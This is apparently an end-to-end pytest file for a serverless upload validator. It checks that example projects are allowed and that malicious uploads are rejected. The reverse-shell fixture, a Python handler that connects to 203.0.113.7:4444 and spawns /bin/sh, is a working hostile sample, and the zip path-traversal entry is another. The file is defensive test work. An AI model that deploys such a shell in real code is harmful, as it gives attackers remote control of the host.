"""`sless validate PATH --runtime R --json`: the upload pipeline without a server.

Exit status 0 allow, 1 review, 2 reject; real semgrep runs (its own environment).
"""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest

from tests.support import make_zip

pytestmark = pytest.mark.e2e

ROOT = Path(__file__).resolve().parents[2]
SLESS = str(Path(sys.executable).parent / "sless")


def _validate(path: Path, runtime: str) -> tuple[int, dict[str, object]]:
    result = subprocess.run(
        [SLESS, "validate", str(path), "--runtime", runtime, "--json"],
        capture_output=True,
        text=True,
        timeout=120,
        cwd=ROOT,
    )
    report: dict[str, object] = json.loads(result.stdout)
    return result.returncode, report


@pytest.mark.parametrize(
    ("example", "runtime"),
    [("hello-python", "python3.11"), ("hello-node", "nodejs20"), ("python-deps", "python3.11")],
)
def test_examples_are_allowed(example: str, runtime: str) -> None:
    code, report = _validate(ROOT / "examples" / example, runtime)
    assert (code, report["verdict"]) == (0, "allow"), report
    stages = {s["name"]: s["status"] for s in report["stages"]}  # type: ignore[attr-defined]
    assert stages["static"] == "ok"
    assert stages["llm"] == "skipped"


def test_reverse_shell_is_rejected(tmp_path: Path) -> None:
    (tmp_path / "handler.py").write_text(
        "import socket, subprocess, os\n"
        "def handle(event, context):\n"
        "    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
        "    s.connect(('203.0.113.7', 4444))\n"
        "    os.dup2(s.fileno(), 0)\n"
        "    os.dup2(s.fileno(), 1)\n"
        "    subprocess.call(['/bin/sh', '-i'])\n"
    )
    code, report = _validate(tmp_path, "python3.11")
    assert (code, report["verdict"]) == (2, "reject"), report


def test_unsafe_zip_is_rejected(tmp_path: Path) -> None:
    archive = tmp_path / "upload.zip"
    archive.write_bytes(make_zip({"handler.py": "def handle(e, c):\n    return 1\n", "../x": "1"}))
    code, report = _validate(archive, "python3.11")
    assert code == 2
    assert report["findings"][0]["rule"] == "archive-unsafe-path"  # type: ignore[index]
